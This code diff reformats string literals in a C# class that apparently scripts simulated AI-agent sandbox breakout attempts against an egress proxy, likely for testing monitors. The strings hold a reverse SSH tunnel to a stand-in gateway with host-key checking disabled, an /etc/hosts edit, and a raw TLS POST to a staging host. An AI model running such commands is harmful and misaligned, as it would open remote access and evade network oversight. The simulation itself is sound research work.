@@ -37,7 +37,8 @@ internal sealed class BreakoutActs(SimulatedWorld world, EgressProxy proxy)
         FromSeconds(10));
 
     private AgentCommand SshThroughConnect(SimulatedSandbox sandbox) => new(
-        "ssh -o StrictHostKeyChecking=no -o ProxyCommand='nc -X connect -x 10.60.0.5:3128 %h %p' -fN -R 2222:localhost:22 ops@gate.example.net",
+        "ssh -o StrictHostKeyChecking=no -o ProxyCommand='nc -X connect -x 10.60.0.5:3128 %h %p' -fN "
+            + "-R 2222:localhost:22 ops@gate.example.net",
         call => proxy.Stay(
             call, "N", "gate.example.net", 22, call.Start + FromMilliseconds(420), sandbox.To - FromSeconds(2), FromSeconds(45)),
         FromSeconds(2));
@@ -94,8 +95,8 @@ internal sealed class BreakoutActs(SimulatedWorld world, EgressProxy proxy)
     private static AgentCommand Pin() => new("echo '203.0.113.66 stage.example.net' >> /etc/hosts", null, FromMilliseconds(40));
 
     private AgentCommand RawSocket() => new(
-        "python3 - <<'PY'\nimport socket, ssl\ns = ssl.create_default_context().wrap_socket(socket.create_connection(('203.0.113.66', 443)), "
-            + "server_hostname='stage.example.net')\ns.sendall(b'POST /in HTTP/1.1\\r\\nHost: stage.example.net\\r\\n\\r\\n')\nPY",
+        "python3 - <<'PY'\nimport socket, ssl\ns = ssl.create_default_context().wrap_socket("
+            + "socket.create_connection(('203.0.113.66', 443)), server_hostname='stage.example.net')\ns.sendall(b'POST /in HTTP/1.1\\r\\nHost: stage.example.net\\r\\n\\r\\n')\nPY",
         call => world.OpenBy(
             call, "S", BreakoutNetwork.Stage, Traffic.Exchange(call.Start + FromMilliseconds(350), FromSeconds(3), 210_000, 3_000)),
         FromSeconds(4));
